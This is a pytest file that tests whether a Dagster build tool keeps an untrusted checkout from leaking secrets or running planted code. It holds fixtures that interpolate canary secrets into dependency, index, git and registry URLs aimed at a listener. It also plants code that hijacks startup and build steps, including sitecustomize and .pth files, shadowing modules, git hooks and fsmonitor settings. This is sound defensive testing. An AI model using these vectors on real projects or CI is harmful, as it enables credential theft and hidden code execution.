"""A checkout is a stranger's: no secret of the machine gets out by what it says, and no program of it is run.

Every file that a pull request can write is tried. A listener writes down what it is asked for, and which programs
run with which arguments and variables at that moment.
"""

from __future__ import annotations

import contextlib
import json
import sys
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from builder.system import process
from tests.support.cloud import CloudServer
from tests.support.commands import DAGSTER, Running, Workshop, put_setuptools, workshop, write_tree
from tests.support.deploying import DETAILS
from tests.support.repositories import Repository
from tests.support.wheels import make_wheel

RUNNING = f"{sys.version_info.major}.{sys.version_info.minor}"

CANARIES = {
    "DAGSTER_CLOUD_API_TOKEN": "user:canary-1-of-dagster",
    "GITHUB_TOKEN": "ghs_canary2ofgithubxxxxxxxxx",
    "CI_REPOSITORY_URL": "https://gitlab-ci-token:canary-3-of-gitlab@gitlab.test/a/b.git",
    "AWS_SECRET_ACCESS_KEY": "canary/4+of+aws",
    "DATABASE_URL": "postgres://u:canary-5-of-the-database@db.test/d",
    "SLACK_WEBHOOK_URL": "https://hooks.test/canary-6",
    "UV_INDEX_PRIV_PASSWORD": "canary-7-of-the-index",
    "HTTPS_PROXY": "http://proxy:canary-8-of-the-proxy@proxy.test:3128",
    "COPIED": "--token=canary-1-of-dagster",
    "DOCKER_AUTH_CONFIG": '{"auths": {"other.test": {"auth": "canary-9-of-docker"}}}',
}
OF_THE_USER = {
    ".netrc": "machine other.test login u password canary-10-of-netrc\n",
    ".git-credentials": "https://u:canary-11-of-git@other.test\n",
    ".gitconfig": "[credential]\n\thelper = store\n",
    ".docker/config.json": '{"auths": {"other.test": {"auth": "dTpjYW5hcnktMTItb2YtZG9ja2Vy"}}}',
    ".pypirc": "[pypi]\npassword = canary-13-of-pypirc\n",
}
"""What the user has at home."""

PIECES = tuple(f"canary{mark}{number}" for number in range(1, 14) for mark in ("", "-", "/", "%2F", "%2f"))
SERVER, HOST = "SERVER", "HOST"
"""Stand for the listener's address until there is one."""

ALL = "-".join(f"${{{name}}}" for name in CANARIES)
FOO = f"SERVER/{ALL}/foo-1.0-py3-none-any.whl"


class _Listener(ThreadingHTTPServer):
    """Answers with the files that it was given, writes down the requests and who is running meanwhile."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.files: dict[str, bytes] = {}
        self.requests: list[str] = []
        self.argv: list[str] = []
        self.redirect = ""

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    server: _Listener

    def do_GET(self) -> None:
        self.server.requests.append(f"{self.path} {self.headers.as_string()}")
        for directory in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                self.server.argv.append(_text(directory / "cmdline"))
        if self.server.redirect and "127.0.0.1" in self.headers["Host"]:
            self.send_response(302)
            self.send_header("Location", f"{self.server.redirect}{self.path}")
            self.end_headers()
            return
        content = self.server.files.get(self.path.rpartition("/")[2])
        self.send_response(404 if content is None else 200)
        self.send_header("Content-Length", str(len(content or b"")))
        self.end_headers()
        self.wfile.write(content or b"")

    def do_HEAD(self) -> None:
        self.do_GET()

    def log_message(self, *_arguments: object) -> None:
        pass


def _text(path: Path) -> str:
    return path.read_bytes().replace(b"\0", b"\n").decode(errors="replace")


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Workshop]:
    with workshop(tmp_path) as made:
        yield made


@pytest.fixture
def listener(tmp_path: Path) -> Iterator[_Listener]:
    server = _Listener()
    (tmp_path / "served").mkdir()
    requires = [f"bar @ {server.url}/metadata/{ALL}/bar-1.0-py3-none-any.whl"]
    wheel = make_wheel(tmp_path / "served", {"evil.py": ""}, name="evil", version="1.0", requires=requires)
    server.files[wheel.path.name] = wheel.path.read_bytes()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


_SERVERLESS = f"dagster=={DAGSTER}\ndagster-cloud=={DAGSTER}\n"
_PROJECT = """
[project]
name = "tiny"
version = "1"
requires-python = ">=3.10"
dependencies = ["dagster", "dagster-cloud", {}]
"""
_SETUPTOOLS = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'

PLACES: Mapping[str, Mapping[str, str]] = {
    "an index": {"requirements.txt": f"--extra-index-url SERVER/{ALL}/simple\n{_SERVERLESS}"},
    "the index": {"requirements.txt": f"--index-url SERVER/{ALL}/simple\n{_SERVERLESS}"},
    "links": {"requirements.txt": f"--find-links SERVER/{ALL}/\n{_SERVERLESS}"},
    "a wheel": {"requirements.txt": f"{_SERVERLESS}foo @ {FOO}"},
    "a wheel's login": {"requirements.txt": f"{_SERVERLESS}foo @ http://{ALL}@HOST/foo-1.0-py3-none-any.whl"},
    "a git repository": {"requirements.txt": f"{_SERVERLESS}foo @ git+SERVER/{ALL}/foo.git"},
    "an included file": {
        "requirements.txt": f"{_SERVERLESS}-r more.txt",
        "more.txt": f"foo @ SERVER/{ALL}/foo.zip",
    },
    "constraints": {"requirements.txt": f"{_SERVERLESS}-c more.txt", "more.txt": f"foo @ SERVER/{ALL}/foo.zip"},
    "a local wheel": {"requirements.txt": f"{_SERVERLESS}evil @ SERVER/evil-1.0-py3-none-any.whl"},
    "[project]": {"pyproject.toml": _PROJECT.replace("{}", f'"foo @ {FOO}"')},
    "[tool.uv.sources] url": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"') + f'[tool.uv.sources]\nfoo.url = "{FOO}"\n'
    },
    "[tool.uv.sources] git": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"')
        + f'[tool.uv.sources]\nfoo.git = "SERVER/{ALL}/foo.git"\n'
    },
    "[[tool.uv.index]]": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"')
        + f'[[tool.uv.index]]\nname = "other"\nurl = "SERVER/{ALL}/simple"\ndefault = true\n'
    },
    "uv.toml": {"requirements.txt": _SERVERLESS, "uv.toml": f'find-links = ["SERVER/{ALL}/"]\n'},
    "[build-system]": {
        "requirements.txt": _SERVERLESS,
        "pyproject.toml": f'[project]\nname = "tiny"\ndynamic = ["version"]\n'
        f'[build-system]\nrequires = ["foo @ {FOO}"]\nbuild-backend = "foo"\n',
    },
    "setup.py": {
        "setup.py": f'from setuptools import setup\nsetup(name="tiny", install_requires=["foo @ {FOO}"])\n',
    },
    "setup.cfg": {
        "setup.cfg": f"[metadata]\nname = tiny\n[options]\ninstall_requires =\n  foo @ {FOO}\n",
        "setup.py": "from setuptools import setup\nsetup()\n",
    },
    "a local package": {
        "requirements.txt": f"{_SERVERLESS}./lib",
        "lib/pyproject.toml": _PROJECT.replace("{}", f'"foo @ {FOO}"') + _SETUPTOOLS,
    },
    "uv.lock": {
        "pyproject.toml": _PROJECT.replace("{}", f'"foo @ {FOO}"'),
        "uv.lock": 'version = 1\nrequires-python = ">=3.11"\n',
    },
    "Pipfile.lock": {
        "Pipfile": f'[[source]]\nname = "o"\nurl = "SERVER/{ALL}/simple"\n[packages]\nfoo = "*"\n',
        "Pipfile.lock": json.dumps(
            {
                "_meta": {"hash": {"sha256": ""}, "sources": [{"name": "o", "url": f"SERVER/{ALL}/simple"}]},
                "default": {"foo": {"version": "==1.0", "index": "o"}, "bar": {"file": f"{FOO}"}},
            }
        ),
    },
    "pdm.lock": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"')
        + f'[[tool.pdm.source]]\nname = "o"\nurl = "SERVER/{ALL}/s"\n',
        "pdm.lock": '[metadata]\nstrategy = ["inherit_metadata"]\n'
        + "".join(
            f'[[package]]\nname = "{name}"\nversion = "{DAGSTER}"\ngroups = ["default"]\n'
            for name in ("dagster", "dagster-cloud")
        )
        + f'[[package]]\nname = "foo"\nversion = "1.0"\ngroups = ["default"]\nurl = "{FOO}"\n',
    },
    "[[tool.poetry.source]]": {
        "pyproject.toml": '[tool.poetry]\nname = "tiny"\nversion = "1"\n[tool.poetry.dependencies]\n'
        f'python = ">=3.10"\ndagster = "*"\ndagster-cloud = "*"\nfoo = {{url = "{FOO}"}}\n'
        f'[[tool.poetry.source]]\nname = "o"\nurl = "SERVER/{ALL}/simple"\n',
    },
    "[[tool.pdm.source]]": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"')
        + f'[[tool.pdm.source]]\nname = "o"\nurl = "SERVER/{ALL}/s"\n',
    },
    "uv.lock's registry": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"'),
        "uv.lock": f'version = 1\nrequires-python = ">=3.10"\n[[package]]\nname = "foo"\nversion = "1.0"\n'
        f'source = {{ registry = "SERVER/{ALL}/simple" }}\n'
        f'wheels = [{{ url = "{FOO}", hash = "sha256:{"0" * 64}" }}]\n',
    },
    ".gitmodules, .python-version, environment.yml, pixi.toml": {
        "requirements.txt": f"{_SERVERLESS}foo",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = SERVER/{ALL}/x.git\n',
        ".python-version": f"SERVER/{ALL}/python\n",
        "environment.yml": f"channels: ['SERVER/{ALL}/conda']\ndependencies: [foo]\n",
        "pixi.toml": f'[workspace]\nchannels = ["SERVER/{ALL}/conda"]\n',
        ".pypirc": f"[o]\nrepository = SERVER/{ALL}/\n",
        "pip.conf": f"[global]\nindex-url = SERVER/{ALL}/simple\n",
    },
    "other spellings": {
        "requirements.txt": "--extra-index-url SERVER/"
        + "/".join(
            f"${name}/%{name}%/$({name})/%({name})s/{{env:{name}}}/{{{{ env.{name} }}}}/{{{name}}}".replace(
                " ", ""
            )
            for name in CANARIES
        )
        + f"/simple\n{_SERVERLESS}foo"
    },
    "options of requirements": {
        "requirements.txt": f"--trusted-host HOST\n{_SERVERLESS}foo --config-settings=x={ALL}\n-i SERVER/{ALL}/s\n"
    },
    "uv.toml's indexes and mirrors": {
        "requirements.txt": f"{_SERVERLESS}foo",
        "uv.toml": f'index-url = "SERVER/{ALL}/simple"\nextra-index-url = ["SERVER/{ALL}/more"]\n'
        f'python-install-mirror = "SERVER/{ALL}/python"\npublish-url = "SERVER/{ALL}/upload"\n'
        f'config-settings = {{ x = "{ALL}" }}\n',
    },
    "[tool.uv] variables and settings of builds": {
        "pyproject.toml": _PROJECT.replace("{}", '"foo"')
        + f'[tool.uv]\nconfig-settings = {{ x = "{ALL}" }}\n'
        + f'extra-build-variables = {{ foo = {{ X = "{ALL}" }} }}\n'
        + f'extra-build-dependencies = {{ foo = ["bar @ {FOO}"] }}\n',
    },
    "entry points": {
        "requirements.txt": f"{_SERVERLESS}./lib",
        "lib/pyproject.toml": _PROJECT.replace("{}", "")
        + f'[project.entry-points.x]\na = "b:c"\n[project.urls]\nx = "SERVER/{ALL}/"\n{_SETUPTOOLS}',
        "lib/setup.cfg": f"[easy_install]\nindex_url = SERVER/{ALL}/\nfind_links = SERVER/{ALL}/\n",
    },
    "files of other tools": {
        "requirements.txt": f"{_SERVERLESS}foo",
        ".netrc": f"machine 127.0.0.1 login u password {ALL}\n",
        ".gitattributes": f"* filter={ALL}\n",
        ".env": f"UV_EXTRA_INDEX_URL=SERVER/{ALL}/\nPIP_INDEX_URL=SERVER/{ALL}/\n",
        ".condarc": f"channels: ['SERVER/{ALL}/']\n",
        "pdm.toml": f'[pypi]\nurl = "SERVER/{ALL}/"\n',
        "poetry.toml": f'[repositories.o]\nurl = "SERVER/{ALL}/"\n',
        "hatch.toml": f'[publish.index]\nrepos.main.url = "SERVER/{ALL}/"\n',
        "Pipfile": f'[[source]]\nname = "o"\nurl = "SERVER/{ALL}/"\n',
        ".config/uv/uv.toml": f'index-url = "SERVER/{ALL}/"\n',
        ".config/pip/pip.conf": f"[global]\nindex-url = SERVER/{ALL}/\n",
        "dagster.yaml": f"telemetry: {{enabled: {{env: DAGSTER_CLOUD_API_TOKEN}}, x: 'SERVER/{ALL}/'}}\n",
    },
    "pylock.toml": {
        "pylock.toml": 'lock-version = "1.0"\ncreated-by = "me"\n[[packages]]\nname = "foo"\nversion = "1.0"\n'
        f'archive = {{url = "{FOO}", hashes = {{sha256 = "{"0" * 64}"}}}}\n',
        "pyproject.toml": _PROJECT.replace("{}", '"foo"'),
    },
}


@pytest.mark.parametrize("where", PLACES)
def test_no_text_of_a_project_carries_a_secret_away(place: Workshop, listener: _Listener, where: str) -> None:
    put_setuptools(place.index.directory)
    host = listener.url.removeprefix("http://")
    files = {name: text.replace(SERVER, listener.url).replace(HOST, host) for name, text in PLACES[where].items()}
    project = place.project(files)
    if "requirements.txt" not in files:
        (project / "requirements.txt").unlink()
    Repository(project).git("init", "-q")
    environment = {**CANARIES, "UV_INDEX_PRIV_USERNAME": "u", "NO_PROXY": "*"}
    running = place.start(
        "deps", project, place.out, "--python-version", RUNNING, "--verbose", env=environment, cwd=project
    )
    assert_no_canary(place, listener, running)


WORKSPACES: Mapping[str, Mapping[str, str]] = {
    "dagster_cloud.yaml": {
        "dagster_cloud.yaml": f"""
locations:
  - location_name: a
    code_source: {{python_file: answer.py}}
    agent_queue: '{ALL}'
    image: 'HOST/{ALL}/image'
    container_context:
      k8s:
        env_vars: ['A={ALL}', DAGSTER_CLOUD_API_TOKEN]
        env_secrets: ['{ALL}']
        image_pull_secrets: [{{name: '{ALL}'}}]
"""
    },
    "registry": {
        "dagster_cloud.yaml": "locations: [{location_name: a, code_source: {python_file: answer.py},"
        f" build: {{registry: 'HOST/{ALL}/x'}}}}]\n"
    },
    "a registry of a stranger": {
        "dagster_cloud.yaml": "locations: [{location_name: a, code_source: {python_file: answer.py},"
        " build: {registry: 'HOST/acme/x'}}]\n"
    },
    "dg.toml": {
        "dg.toml": f'directory_type = "project"\n[project]\nroot_module = "{ALL}"\ncode_location_name = "{ALL}"\n'
        f'defs_module = "{ALL}"\nregistry_modules = ["{ALL}"]\n[cli]\nx = "SERVER/{ALL}/"\n',
        "container_context.yaml": f"k8s: {{env_vars: ['A={ALL}']}}\n",
    },
}


@pytest.mark.parametrize("where", WORKSPACES)
def test_no_text_of_a_workspace_carries_a_secret_away(place: Workshop, listener: _Listener, where: str) -> None:
    host = listener.url.removeprefix("http://")
    files = {
        name: text.replace(SERVER, listener.url).replace(HOST, host) for name, text in WORKSPACES[where].items()
    }
    project = place.project(files)
    repository = Repository(project)
    repository.git("init", "-q")
    repository.git("remote", "add", "origin", f"{listener.url}/{ALL}/x.git")
    with CloudServer() as cloud:
        running = place.start(
            *(
                "deploy",
                project,
                place.out,
                "--upload",
                "--update-code-location",
                "--no-verify",
                "--verbose",
                DETAILS,
            ),
            env={**CANARIES, **cloud.environ(), "NO_PROXY": "*"},
            cwd=project,
        )
        assert_no_canary(place, listener, running)
        # What goes to Dagster Cloud is what is written, without a value.
        assert not [piece for piece in PIECES if piece in str(cloud.requests)]


def assert_no_canary(place: Workshop, listener: _Listener, running: Running) -> None:
    """Let a command run to its end; no canary may be at any place where it could be seen."""
    write_tree(place.root, OF_THE_USER)
    environments: list[str] = []
    over = threading.Event()

    def watch() -> None:
        """What programs that it starts have: its own variables are blanked, which is another test's."""
        while not over.wait(0.02):
            with contextlib.suppress(OSError):
                for pid in running.started():
                    listener.argv.append(_text(Path(f"/proc/{pid}/cmdline")))
                    environments.append(_text(Path(f"/proc/{pid}/environ")))

    watcher = threading.Thread(target=watch)
    watcher.start()
    ran = running.finish()
    over.set()
    watcher.join()
    assert ran.code in (0, 1, 2), ran
    seen = {
        "output": f"{ran.stdout}{ran.stderr}",
        "requests": "\n".join(listener.requests),
        "command lines": "\n".join(listener.argv),
        "environments": "\n".join(environments),
        "files": "\n".join(_texts(place.root)),
    }
    # uv gets a proxy's password to reach the proxy, by a name that no text can mention.
    seen["environments"] = seen["environments"].replace(CANARIES["HTTPS_PROXY"], "")
    found = {name: piece for name, text in seen.items() for piece in PIECES if piece in text}
    assert not found, seen


def _texts(root: Path) -> Iterator[str]:
    for path in root.rglob("*"):
        if str(path.relative_to(root)) in OF_THE_USER:
            continue
        if path.is_file() and not path.is_symlink() and "bootstrap" not in str(path):
            yield path.read_bytes().decode(errors="replace")


def test_a_named_secret_is_the_login_of_the_host_that_asks_for_it(place: Workshop, listener: _Listener) -> None:
    host = listener.url.removeprefix("http://")
    lines = f"{_SERVERLESS}foo @ http://u:${{INDEX_TOKEN}}@{host}/foo-1.0-py3-none-any.whl"
    project = place.project({"requirements.txt": lines})
    secret = {"INDEX_TOKEN": "canary/1@with:marks"}
    error = place.build(project, env=secret).failed()
    assert "asks for the variable `INDEX_TOKEN`, which is a secret of this machine" in error
    assert "project/requirements.txt:3" in error
    assert not listener.requests
    place.build(project, env={**secret, "BUILDER_PASS_ENV": "INDEX_TOKEN"}).failed()
    assert any("Authorization: Basic dTpjYW5hcnkvMUB3aXRoOm1hcmtz" in request for request in listener.requests)
    assert all(request.startswith("/foo-1.0-py3-none-any.whl ") for request in listener.requests)
    (project / "requirements.txt").write_text(
        lines.replace("u:${INDEX_TOKEN}@", "").replace("foo-", "${INDEX_TOKEN}-")
    )
    error = place.build(project, env={**secret, "BUILDER_PASS_ENV": "INDEX_TOKEN"}).failed()
    assert "elsewhere than in the user and password of a URL" in error


def test_a_login_does_not_follow_a_redirect_to_another_host(place: Workshop, listener: _Listener) -> None:
    host = listener.url.removeprefix("http://")
    # By another name it is another host.
    listener.redirect = listener.url.replace("127.0.0.1", "localhost")
    project = place.project(
        {"requirements.txt": f"--extra-index-url http://u:${{INDEX_TOKEN}}@{host}/simple\n{_SERVERLESS}"}
    )
    place.build(project, env={"INDEX_TOKEN": "canary-1", "BUILDER_PASS_ENV": "INDEX_TOKEN"})
    hosts = {
        (request.partition("Host: ")[2].split()[0], "Authorization" in request) for request in listener.requests
    }
    assert (host, True) in hosts
    other = listener.redirect.removeprefix("http://")
    assert (other, False) in hosts
    assert (other, True) not in hosts


def test_a_named_secret_of_a_git_url_is_on_no_command_line(place: Workshop, listener: _Listener) -> None:
    host = listener.url.removeprefix("http://")
    project = place.project({"requirements.txt": f"{_SERVERLESS}foo @ git+http://u:${{GIT_TOKEN}}@{host}/foo.git"})
    place.build(project, env={"GIT_TOKEN": "canary-1", "BUILDER_PASS_ENV": "GIT_TOKEN"}).failed()
    assert any("Authorization: Basic dTpjYW5hcnktMQ==" in request for request in listener.requests)
    assert any("git" in line for line in listener.argv)
    assert not [line for line in listener.argv if "canary-1" in line]


class TestPrograms:
    """A file that says what ran it, at every place where some program looks for one of its own."""

    @pytest.fixture
    def canary(self, place: Workshop) -> Path:
        return place.root / "ran"

    @pytest.fixture
    def checkout(self, place: Workshop, canary: Path) -> Path:
        code = f"import sys\nwith open({str(canary)!r}, 'a') as stream: print(__file__, sys.argv, file=stream)\n"
        script = f'#!/bin/sh\necho "$0 $@" >> "{canary}"\nexec {sys.executable} "$@"\n'
        plugin = ".poetry/plugins/evil-1.dist-info"
        modules = (
            *(
                "pip.py",
                "pex.py",
                "uv.py",
                "types.py",
                "queue.py",
                "re.py",
                "os.py",
                "json.py",
                "sitecustomize.py",
            ),
            *("usercustomize.py", "conftest.py", "setuptools.py", "distutils.py", "encodings.py", "poetry.py"),
            *(".poetry/plugins/evil.py", "build.py", "noxfile.py", "keyring.py", "click.py", "httpx.py"),
            *("hatch_build.py", "pdm_build.py", "_custom_build.py", "versioneer.py", "sitecustomize/__init__.py"),
            *("evil/__init__.py", "evil/bdist_wheel.py", "evil/egg_info.py", "__main__.py", "__init__.py"),
            *(f".venv/lib/python{RUNNING}/site-packages/{name}.py" for name in ("sitecustomize", "evil", "pip")),
        )
        starts = f"import os; open({str(canary)!r}, 'a').write('pth')\n"
        settings = (
            *(".env", ".envrc", ".flaskenv"),
            *("pytest.ini", "tox.ini", ".pre-commit-config.yaml", "Makefile", "dagster_cloud_post_install.sh"),
        )
        project = place.project(
            {
                **dict.fromkeys(modules, code),
                ".pdbrc": code,
                ".pythonrc": code,
                **dict.fromkeys(settings, script),
                **dict.fromkeys(("evil.pth", f".venv/lib/python{RUNNING}/site-packages/evil.pth"), starts),
                "setup.cfg": "[global]\ncommand_packages = evil\n[aliases]\nbdist_wheel = evil egg_info\n",
                ".pydistutils.cfg": "[global]\ncommand_packages = evil\n",
                "entry_points.txt": "[console_scripts]\npip = evil:x\n[keyring.backends]\nx = evil\n",
                "evil-1.dist-info/METADATA": "Name: evil\nVersion: 1\n",
                "evil-1.dist-info/entry_points.txt": "[keyring.backends]\nx = evil\n",
                ".python-version": "./.venv/bin/python\n",
                ".python-versions": "./.venv/bin/python\n",
                ".venv/pyvenv.cfg": f"home = {Path(sys.executable).parent}\nversion_info = {RUNNING}.0\n",
                ".gitattributes": "* filter=evil diff=evil merge=evil\n",
                "poetry.toml": "[virtualenvs]\nin-project = true\n",
                "uv.toml": 'python-preference = "system"\n[pip]\npython = ".venv/bin/python"\n',
                f"{plugin}/entry_points.txt": "[poetry.application.plugin]\nevil = evil:X\n",
                f"{plugin}/METADATA": "Name: evil\nVersion: 1\n",
                "pip.conf": "[global]\nindex-url = http://127.0.0.1:1/\n",
            }
        )
        programs = ("python", "python3", f"python{RUNNING}", "git", "uv", "pip", "keyring", "docker", "poetry")
        for name in (*(f".venv/bin/{name}" for name in programs), *programs):
            write_tree(project, {name: script})
            (project / name).chmod(0o755)
        repository = Repository(project)
        repository.git("init", "-q")
        repository.git("add", "-A")
        repository.git("commit", "-qm", "x")
        (project / ".git/hooks").mkdir(exist_ok=True)
        for hook in ("post-checkout", "post-index-change", "reference-transaction"):
            (project / ".git/hooks" / hook).write_text(script)
            (project / ".git/hooks" / hook).chmod(0o755)
        for setting in (
            "core.fsmonitor",
            "filter.evil.clean",
            "diff.evil.textconv",
            "core.pager",
            "core.sshCommand",
        ):
            repository.git("config", setting, str(project / "git"))
        canary.unlink(missing_ok=True)
        return project

    @pytest.mark.parametrize("options", [("--plan",), ()], ids=["plan", "build"])
    @pytest.mark.parametrize(
        "files",
        [
            {"requirements.txt": _SERVERLESS, "pyproject.toml": "[tool.builder]\nrespect-gitignore = true\n"},
            {
                "pyproject.toml": _PROJECT.replace("{}", ""),
                "uv.lock": "@",
            },
        ],
        ids=["requirements.txt", "uv.lock"],
    )
    def test_none_is_run_where_nothing_has_to_be_built(
        self, place: Workshop, checkout: Path, canary: Path, files: Mapping[str, str], options: tuple[str, ...]
    ) -> None:
        (checkout / "requirements.txt").unlink()
        write_tree(checkout, {name: text for name, text in files.items() if text != "@"})
        if "uv.lock" in files:
            uv = Path(place.environment["BUILDER_UV"])
            arguments = ["lock", "--python", sys.executable, "--no-config"]
            environment = {**place.environment, "UV_PROJECT_ENVIRONMENT": str(place.root / "none")}
            process.run([uv, *arguments], cwd=checkout, env=environment)
            canary.unlink(missing_ok=True)
        workspace = "locations: [{location_name: a, code_source: {module_name: code}}]\n"
        (checkout / "dagster_cloud.yaml").write_text(workspace)
        ran = place.run(
            "deploy", "dagster_cloud.yaml", place.out, "--python-version", RUNNING, *options, cwd=checkout
        )
        ran.succeeded()
        assert not canary.exists(), canary.read_text()

    def test_only_setup_py_is_run_where_something_has_to_be_built(
        self, place: Workshop, checkout: Path, canary: Path
    ) -> None:
        put_setuptools(place.index.directory)
        setup = f"with open({str(canary)!r}, 'a') as stream: print('setup.py', file=stream)\n"
        # setuptools puts the directory of a setup.py first, as everywhere.
        for name in ("setuptools", "distutils", "types", "queue", "re", "os", "json", "encodings", "build"):
            (checkout / f"{name}.py").unlink()
        # And reads of the configuration beside it which other commands there are.
        (checkout / "setup.cfg").unlink()
        setup += "from setuptools import setup\nsetup(name='tiny', py_modules=['code'])\n"
        write_tree(checkout, {"setup.py": setup})
        place.run("source", checkout, place.out, "--python-version", RUNNING, cwd=checkout).succeeded()
        assert set(canary.read_text().splitlines()) == {"setup.py"}

    def test_modules_of_the_builder_are_its_own(
        self, checkout: Path, canary: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.chdir(checkout)
        for module in ("pip", "pex"):
            process.run_module(module, ["--version"], env=process.clean_environment())
        assert not canary.exists(), canary.read_text()
